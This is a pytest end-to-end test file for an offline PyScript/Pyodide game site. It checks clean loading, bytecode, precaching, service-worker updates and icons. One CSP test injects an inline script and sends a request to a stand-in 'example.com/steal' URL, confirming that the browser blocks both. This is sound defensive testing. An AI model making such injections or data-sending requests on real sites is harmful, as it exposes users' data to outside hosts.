"""The platform under the app: it loads clean, from our origin alone, and works offline.

The page-level checks run in Chromium against the served site (see conftest.py); the file
checks read the site's folder (the repository, or $RENARDIERE_E2E_ROOT).
"""

from __future__ import annotations

import contextlib

import json
import os
import re
import struct
import tomllib
import zipfile
from pathlib import Path

import pytest

from playing import play_against_the_bot
from tools import build
from tools.serve import wait_precached, wait_quiet


def _config(site_root: Path) -> dict:
    return tomllib.loads((site_root / "pyscript.toml").read_text())


def _sources(site_root: Path) -> set[str]:
    """The .py files under game/, ui/, bots/ (os.walk: symlinked folders are not followed)."""
    found = set()
    for d in build.APP_PACKAGES:
        for dirpath, dirnames, filenames in os.walk(site_root / d):
            dirnames[:] = [x for x in dirnames if x != "__pycache__"]
            found |= {Path(dirpath, f).relative_to(site_root).as_posix() for f in filenames if f.endswith(".py")}
    return found


def _norm(path: str) -> str:
    return re.sub(r"^\./", "", path)


# -- the page -----------------------------------------------------------------------------

def test_home_page_loads_clean(page, server, watch, wait_ready):
    """Ready, with no console error and no request to another origin (checked by `watch`)."""
    page.goto(server.url)
    wait_ready(page)
    watch.check()
    assert page.evaluate("document.title").strip(), "the page has no title"


def test_each_preload_is_fetched_once_and_used(page, server, site_root, watch, wait_ready):
    """index.html names the runtime's chain of files up front (tools/build.py preload_links):
    on a first visit each is fetched once, so PyScript and Pyodide took the preloaded response
    (a preload whose mode does not match its use is fetched twice), and none is left unused
    (Chromium warns 3 s after the load event)."""
    preloads = [path.removeprefix("./") for _, path in build.preload_links(site_root)]
    notes = []
    page.on("console", lambda m: "preload" in m.text.lower() and notes.append(m.text))
    page.goto(server.url)
    wait_ready(page)
    page.wait_for_timeout(3500)
    fetched = page.evaluate("""() => performance.getEntriesByType('resource')
                                 .map((e) => new URL(e.name).pathname.slice(1))""")
    counts = {p: fetched.count(p) for p in preloads}
    assert all(n == 1 for n in counts.values()), counts
    assert not notes, notes
    watch.check()


# Run on the page once it is ready: for each module of the app, where Python took it from. It
# must be app.zip's bytecode (tools/build.py), a checked-hash .pyc of the very source the site
# serves at that module's path (else Python compiled a source, or the zip is stale).
_BYTECODE_CHECK = """
import importlib.util, sys, zipimport
import js
from pyscript import document
seen, bad = 0, []
for name, mod in sorted(sys.modules.items()):
    if name.split(".")[0] not in ("game", "ui", "bots"):
        continue
    seen += 1
    loader, path = getattr(mod, "__loader__", None), getattr(mod, "__file__", "") or ""
    if not isinstance(loader, zipimport.zipimporter) or not path.endswith(".pyc"):
        bad.append(f"{name}: from {path or loader}")
        continue
    pyc = loader.get_data(path)
    inner = path[len(loader.archive) + 1:]          # ui/app.pyc
    source = bytes((await (await js.fetch("./" + inner[:-1])).arrayBuffer()).to_py())
    if int.from_bytes(pyc[4:8], "little") != 3 or pyc[8:16] != importlib.util.source_hash(source):
        bad.append(name + ": not a checked .pyc of its source")
document.body.dataset.bytecode = f"{seen} " + "; ".join(bad)
"""


def test_the_app_runs_from_its_shipped_bytecode(page, server, watch, wait_ready):
    """Every module the page imported came from app.zip's bytecode (tools/build.py's, made by
    Pyodide) of the source the site serves: the page compiles none of the app's Python."""
    page.goto(server.url)
    wait_ready(page)
    page.evaluate("""(code) => { const s = document.createElement('script'); s.type = 'py';
                                 s.textContent = code; document.body.append(s); }""", _BYTECODE_CHECK)
    page.wait_for_function("document.body.dataset.bytecode !== undefined", timeout=60_000)
    seen, _, bad = page.evaluate("document.body.dataset.bytecode").partition(" ")
    assert int(seen) >= 20, f"only {seen} modules of the app were imported"
    assert not bad, bad
    watch.check()


def test_the_content_security_policy_allows_our_origin_alone(page, server, watch, wait_ready):
    """The policy of index.html (its reasons are written beside it) at work: an injected
    inline script does not run, and nothing may be fetched from, or sent to, elsewhere."""
    violations, failed = [], {}
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
    watch.allow(r"Content Security Policy|example\.com")   # the refusals this test provokes
    page.goto(server.url)
    wait_ready(page)
    assert not violations, violations               # the app itself never trips it
    ran = page.evaluate("""() => { window.__injected = false;
        const s = document.createElement("script"); s.textContent = "window.__injected = true";
        document.body.append(s); return window.__injected; }""")
    assert ran is False
    outcome = page.evaluate("""() => fetch("http://example.com/steal?x=1", {mode: "no-cors"})
                                   .then(() => "sent", () => "refused")""")
    assert outcome == "refused"
    page.evaluate("""() => { const i = new Image(); i.src = "http://example.com/pixel.png";
                             document.body.append(i); }""")
    page.wait_for_timeout(300)
    assert len(violations) >= 3, violations
    # each was stopped by the browser before it left: none reached the network
    assert watch.offsite and all(failed.get(u) == "csp" for u in watch.offsite), (watch.offsite, failed)
    watch.offsite.clear()
    watch.check()


@contextlib.contextmanager
def _first_visit(browser, srv, new_watch, open_watched, wait_ready):
    """A context that lets service workers in, watched, with the app opened once and ready."""
    context = browser.new_context(service_workers="allow")
    try:
        watch = new_watch(srv.url)
        watch.attach_context(context)
        page = open_watched(context, watch)
        page.goto(srv.url)
        wait_ready(page)
        yield context, watch, page
    finally:
        context.close()


def test_waiting_for_the_precache_waits(browser, server):
    """wait_precached reads its async predicate's value: with no service worker, no cache ever
    completes, and it says so after its time (page.wait_for_function took the Promise for true)."""
    context = browser.new_context(service_workers="block")
    try:
        page = context.new_page()
        page.goto(server.url + "?no-sw")
        assert wait_precached(page, timeout_ms=750) is False
    finally:
        context.close()


def test_offline_after_one_visit(browser, serve, site_root, new_watch, open_watched, wait_ready):
    """After one visit the service worker controls the page and the app loads with no network."""
    srv = serve()  # a server of its own, so that this test can cut it
    with _first_visit(browser, srv, new_watch, open_watched, wait_ready) as (context, watch, page):
        has_sw = page.evaluate("'serviceWorker' in navigator && !!document.querySelector("
                               "'script[src$=\"register-sw.js\"]')")
        assert has_sw, 'index.html must include <script src="./assets/register-sw.js"></script>'
        # The worker's first install claims the page at once; the page's files go into its cache
        # as they pass, and the rest once the app is ready; the manifest, last, says it is complete.
        page.wait_for_function("navigator.serviceWorker.controller !== null", timeout=90_000)
        wait_precached(page)  # if it times out, the assertion below says which files never came
        cached = page.evaluate(
            """async () => {
                 const names = (await caches.keys()).filter((n) => n.startsWith("renardiere:"));
                 const keys = names.length ? await (await caches.open(names[0])).keys() : [];
                 return {names, urls: keys.map((r) => new URL(r.url).pathname)};
               }"""
        )
        assert len(cached["names"]) == 1, cached["names"]
        manifest = build.read_precache(site_root)
        want = {"/" + p[2:] for p in manifest["files"]}
        missing = want - set(cached["urls"])
        assert not missing, f"not precached: {sorted(missing)}"

        # The network goes: the server stops and the browser is offline.
        srv.stop()
        context.set_offline(True)
        page.reload()
        wait_ready(page)
        assert page.evaluate("navigator.serviceWorker.controller !== null")
        # A second tab, offline too, with a query string (a share link, say).
        other = open_watched(context, watch)
        other.goto(srv.url + "?offline-check=1")
        wait_ready(other)
        # Offline, a game starts, takes a move by clicks, and the bot (its worker booted
        # from the cache too) answers.
        other.click("#new-fendo")
        other.select_option("#level1", "novice")
        other.click("#start")
        other.click('#board [data-act="cell"][data-cell="d1"]')
        other.click('#board [data-act="cell"][data-cell="d4"]')
        other.click('#board .wall-hit[data-side="N"]')
        other.wait_for_function(
            "() => { const m = document.querySelector('main.play');"
            " return m && +m.dataset.ply >= 2 && !m.dataset.thinking; }", timeout=90_000)
        assert other.locator(".movelist td.mv").first.text_content() == "d1-d4N"
        watch.check()




def test_service_worker_takes_an_update(browser, serve, site_root, new_watch, open_watched,
                                        wait_ready, tmp_path):
    """A new version waits until the player taps "reload to update"; then the page reloads
    into it, the game in progress comes back as it was, the old cache is gone, and only the
    changed file was downloaded (not the runtime)."""
    site = build.build_site(site_root, tmp_path / "site")  # a copy that this test may edit
    srv = serve(site)
    with _first_visit(browser, srv, new_watch, open_watched, wait_ready) as (context, watch, page):
        page.wait_for_function("navigator.serviceWorker.controller !== null", timeout=90_000)
        old = build.read_precache(site)["version"]
        play_against_the_bot(page)         # a game in progress: one move, and the bot's answer
        game_url = page.url
        moves = page.locator(".movelist td.mv").all_text_contents()
        wait_quiet(page, lambda: len(srv.hits), limit_s=60)  # the bot worker has booted: every request so far is done

        start = len(srv.hits)
        edited = site / "ui" / "main.py"
        edited.write_text(edited.read_text() + "\n# an update\n")
        new = build.write_precache(site, quiet=True)["version"]
        assert new != old
        page.evaluate("navigator.serviceWorker.getRegistration().then((r) => r.update())")
        # installed beside the old one, it waits and is announced; nothing is reloaded yet
        page.wait_for_selector('.notice [data-act="update"]', timeout=90_000)
        names = sorted(n for n in page.evaluate("caches.keys()") if n.startswith("renardiere:"))
        assert names == sorted([f"renardiere:/:{old}", f"renardiere:/:{new}"]), names
        assert page.url == game_url and page.locator(".movelist td.mv").all_text_contents() == moves
        fetched = [h.split("?")[0] for h in list(srv.hits)[start:]]
        assert "/ui/main.py" in fetched
        assert not any(h.endswith((".wasm", ".zip")) for h in fetched), f"refetched: {fetched}"

        with page.expect_navigation(timeout=90_000):
            page.click('.notice [data-act="update"]')
        wait_ready(page)
        assert page.url == game_url
        page.wait_for_selector("main.play")
        assert page.locator(".movelist td.mv").all_text_contents() == moves   # the game, as it was
        assert page.locator('.notice [data-act="update"]').count() == 0
        names = [n for n in page.evaluate("caches.keys()") if n.startswith("renardiere:")]
        assert names == [f"renardiere:/:{new}"], names                        # the old cache is gone
        text = page.evaluate("fetch('./ui/main.py').then((r) => r.text())")
        assert text.endswith("# an update\n")
        watch.check()


# -- the files ----------------------------------------------------------------------------

def test_the_app_zip_holds_every_python_file(site_root):
    """Every module of game/, ui/, bots/ reaches the browser in app.zip, as bytecode in its
    source's place (packages stay packages) and no source; the two scripts PyScript fetches by
    their URL are not in it, and each puts the zip, where PyScript writes it, on sys.path."""
    files = build.pyscript_files(_config(site_root))
    assert {_norm(s): _norm(d) for s, d in files.items()} == {str(build.APP_ZIP): _norm(build.APP_ZIP_DEST)}, files
    with zipfile.ZipFile(site_root / build.APP_ZIP) as z:
        zipped, comment = set(z.namelist()), z.comment.decode()
    modules = _sources(site_root) - set(build.ENTRY_SCRIPTS)
    assert {n.split("/")[0] for n in modules} == set(build.APP_PACKAGES)
    assert zipped == {m + "c" for m in modules}, (
        f"not in the zip: {sorted({m + 'c' for m in modules} - zipped)}; "
        f"not a module: {sorted(zipped - {m + 'c' for m in modules})}")
    for entry in build.ENTRY_SCRIPTS:
        assert f'sys.path.insert(0, os.path.abspath("{_norm(build.APP_ZIP_DEST)}"))' in (site_root / entry).read_text(), entry
    if (site_root / "package.json").exists():  # the repository: the zip is of these very sources
        assert comment == build.app_stamp(site_root), f"app.zip is not compiled from these sources ({comment})"


def test_pyscript_runs_on_our_own_runtime(site_root):
    cfg = _config(site_root)
    interpreter = cfg.get("interpreter", "")
    assert "://" not in interpreter and interpreter.endswith("assets/runtime/pyodide/pyodide.mjs"), (
        f"pyscript.toml must name the self-hosted Pyodide, not {interpreter!r}"
    )
    assert not cfg.get("packages"), "the app uses the standard library only: no packages to fetch"
    html = (site_root / "index.html").read_text()
    loads = re.findall(r'<(?:script|link|img|iframe|source|embed)\b[^>]*?\b(?:src|href)="([^"]*)"', html)
    offsite = [u for u in loads if "://" in u or u.startswith("//")]
    assert not offsite, f"index.html loads from another origin: {offsite}"
    assert "assets/runtime/pyscript/core.js" in html


def test_precache_covers_the_app(site_root):
    if (site_root / "package.json").exists():  # the repository, maybe being edited: list it anew
        build.write_precache(site_root, quiet=True)
    manifest = build.read_precache(site_root)
    files = {_norm(p) for p in manifest["files"]}
    wanted = {"index.html", "pyscript.toml", "manifest.webmanifest", "assets/register-sw.js"}
    wanted |= {_norm(src) for src in build.pyscript_files(_config(site_root)) if "://" not in src}
    wanted |= set(build.ENTRY_SCRIPTS)
    wanted |= {f"assets/runtime/pyodide/{f}" for f in build.PYODIDE_FILES}
    wanted |= {"assets/runtime/pyscript/core.js", "assets/runtime/pyscript/core.css"}
    assert not wanted - files, f"not precached: {sorted(wanted - files)}"
    for rel, digest in manifest["files"].items():
        path = site_root / _norm(rel)
        assert path.is_file(), f"precache lists {rel}, which does not exist"
        assert build._sha256(path)[:16] == digest, f"{rel} changed since the precache list was made (make runtime)"
    assert not any(p.endswith(".map") or "/tests/" in p for p in files)


def _png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()[:24]
    assert data[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    return struct.unpack(">II", data[16:24])


def test_manifest_and_icons(site_root):
    manifest = json.loads((site_root / "manifest.webmanifest").read_text())
    for key in ("name", "short_name", "start_url", "display", "icons"):
        assert manifest.get(key), f"manifest.webmanifest lacks {key}"
    purposes = set()
    for icon in manifest["icons"]:
        path = site_root / icon["src"]
        assert path.is_file(), f"icon {icon['src']} does not exist"
        purposes.update(icon.get("purpose", "any").split())
        if icon["type"] == "image/png":
            w, h = _png_size(path)
            assert icon["sizes"] == f"{w}x{h}", f"{icon['src']} is {w}x{h}, not {icon['sizes']}"
        else:
            assert path.read_text().lstrip().startswith("<svg")
    sizes = {i["sizes"] for i in manifest["icons"]}
    assert {"192x192", "512x512"} <= sizes and "maskable" in purposes
    # The page names it once it is up (ui/web/boot.py add_manifest), not in index.html, where
    # Chromium's installability check held back the start (test_installable.py finds it there).
    html = (site_root / "index.html").read_text()
    assert not re.search(r'<link[^>]+rel="manifest"', html)


@pytest.mark.parametrize("name", ["sw.js", "assets/register-sw.js"])
def test_service_worker_files_exist(site_root, name):
    assert (site_root / name).is_file()
